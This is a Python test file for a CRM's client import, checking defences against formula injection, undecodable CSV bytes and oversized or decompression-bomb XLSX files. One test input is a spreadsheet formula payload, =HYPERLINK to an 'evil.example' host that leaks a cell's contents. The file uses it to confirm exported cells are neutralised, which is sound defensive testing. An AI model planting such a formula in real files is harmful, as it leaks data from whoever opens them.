"""Hostile import files through the panel and `crmhub import clients`: cells that are
formulas, bytes no encoding explains, XLSX files that would take the web process down."""

from __future__ import annotations

import asyncio
import csv
import io
import os
import signal
from pathlib import Path

import pytest
from aiohttp import FormData

from admin_web.keys import IMPORTS
from crm.imports.xlsx_rows import rows_file
from crm.models import ImportJob, ImportStatus
from crmhub import cli
from tests.admin_web.conftest import Browser
from tests.admin_web.import_data import (
    HEADERS,
    rows,
    write_csv,
    write_shared_strings_xlsx,
)
from tests.admin_web.test_import import start


async def upload(browser: Browser, path: Path) -> tuple[int, str]:
    """The upload form, the file streamed from disk (as a browser sends a big one)."""
    await browser.get("/import")
    form = FormData()
    form.add_field("_csrf", await browser.csrf())
    form.add_field("_back", "/import")
    with path.open("rb") as source:
        form.add_field("file", source, filename=path.name)
        resp = await browser.client.post("/import", data=form)
        text = await resp.text()
    browser.page = resp.url.path
    return resp.status, text


HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


async def test_the_failed_rows_file_is_formula_safe(as_admin: Browser, tmp_path: Path) -> None:
    data = rows(2)
    data.append([HYPERLINK, "1234567890", "+7 916", "@SUM(1)", "-2+3"])  # a wrong INN: fails
    path = write_csv(tmp_path / "clients.csv", data)
    await upload(as_admin, path)
    job = await start(as_admin, as_admin.page, column_4="")
    assert job.status == ImportStatus.DONE and job.skipped == 1
    resp = await as_admin.client.get(f"/import/jobs/{job.id}/failed.csv")
    table = list(csv.reader(io.StringIO((await resp.read()).decode("utf-8-sig")), delimiter=";"))
    line, name, inn, *_rest, reason = table[1]
    assert name == "'" + HYPERLINK
    assert (line, inn) == ("4", "1234567890")
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in table for cell in row)
    assert "INN checksum is wrong" in reason


# Byte 0x98 is no letter of Windows-1251, and a lone one is no UTF-8: no encoding fits.
UNDECODABLE = ";".join(HEADERS).encode("cp1251") + b"\n\x98\xc0\xc1;7700000001\n"
ENCODING_EN = "Could not tell the file&#39;s encoding: save it as UTF-8 or Windows-1251"


def uploads(browser: Browser) -> list[Path]:
    folder: Path = browser.app[IMPORTS].folder
    return sorted(folder.iterdir()) if folder.exists() else []


async def test_an_undecodable_csv_is_refused_and_deleted(as_admin: Browser, tmp_path: Path) -> None:
    path = tmp_path / "clients.csv"
    path.write_bytes(UNDECODABLE)
    status, text = await upload(as_admin, path)
    assert status == 200 and ENCODING_EN in text
    assert uploads(as_admin) == []  # not kept for 30 days: gone at once
    assert not await ImportJob.exists()


def test_the_command_line_refuses_an_undecodable_csv(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("CRMHUB_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setenv("CRMHUB_DEFAULT_LOCALE", "ru")
    monkeypatch.delenv("CRMHUB_DATABASE_URL", raising=False)
    path = tmp_path / "clients.csv"
    path.write_bytes(UNDECODABLE)
    assert cli.main(["import", "clients", str(path)]) == 2
    captured = capsys.readouterr()
    assert "Traceback" not in captured.err + captured.out
    assert "UTF-8 или Windows-1251" in captured.err
    assert not (tmp_path / "data" / "imports").exists()  # refused before anything
    assert cli.main(["import", "clients", str(tmp_path / "missing.csv")]) == 2
    captured = capsys.readouterr()
    assert "Не удалось прочитать файл" in captured.err and "Traceback" not in captured.err


async def test_xlsx_past_the_limits_is_refused_and_deleted(
    as_admin: Browser, tmp_path: Path
) -> None:
    many = write_shared_strings_xlsx(tmp_path / "many.xlsx", rows(2), extra_strings=500_001)
    assert many.stat().st_size < 3 * 1024**2  # small to upload, too much to unpack
    _status, text = await upload(as_admin, many)
    assert "holds too many different texts to import" in text
    bomb = write_shared_strings_xlsx(tmp_path / "bomb.xlsx", rows(2), padding=260 * 1024**2)
    assert bomb.stat().st_size < 3 * 1024**2
    _status, text = await upload(as_admin, bomb)
    assert "too large to import once unpacked" in text
    assert uploads(as_admin) == []
    assert not await ImportJob.exists()


def readers() -> dict[int, str]:
    """The XLSX readers (`python -m crm.imports.xlsx_rows`) this process started: pid -> state."""
    found = {}
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            command = (entry / "cmdline").read_bytes()
            stat = (entry / "stat").read_text()
        except OSError:
            continue
        state, parent = stat.rsplit(")", 1)[1].split()[:2]
        if int(parent) == os.getpid() and b"crm.imports.xlsx_rows" in command:
            found[int(entry.name)] = state
    return found


async def test_healthz_answers_while_an_xlsx_is_parsed(as_admin: Browser, tmp_path: Path) -> None:
    """The web process hands the workbook to a child process: stopped mid-parse, the
    child holds the upload, and /healthz answers meanwhile (parsing on the event loop, or
    in a thread with its garbage-collection pauses, it could not be stopped alone)."""
    path = write_shared_strings_xlsx(tmp_path / "big.xlsx", rows(300), extra_strings=200_000)
    uploading = asyncio.ensure_future(upload(as_admin, path))
    async with asyncio.timeout(60):
        while not (found := await asyncio.to_thread(readers)):  # noqa: ASYNC110
            await asyncio.sleep(0.02)
    (pid,) = found
    os.kill(pid, signal.SIGSTOP)
    try:
        health = await as_admin.client.get("/healthz")
        state = (await asyncio.to_thread(readers)).get(pid)
        assert not uploading.done()
    finally:
        os.kill(pid, signal.SIGCONT)
    status, text = await uploading
    assert health.status == 200 and (await health.json())["status"] == "ok"
    assert state == "T"  # answered while the parse was stopped half-way
    assert status == 200 and "ООО Клиент 2" in text  # the preview, read from shared strings


async def test_a_cancelled_read_stops_its_reader(tmp_path: Path) -> None:
    """A web process shutting down mid-read leaves no reader behind."""
    path = write_shared_strings_xlsx(tmp_path / "big.xlsx", rows(10), extra_strings=200_000)
    reading = asyncio.ensure_future(rows_file(path))
    async with asyncio.timeout(60):
        while not await asyncio.to_thread(readers):  # noqa: ASYNC110
            await asyncio.sleep(0.02)
    reading.cancel()
    with pytest.raises(asyncio.CancelledError):
        await reading
    assert await asyncio.to_thread(readers) == {}
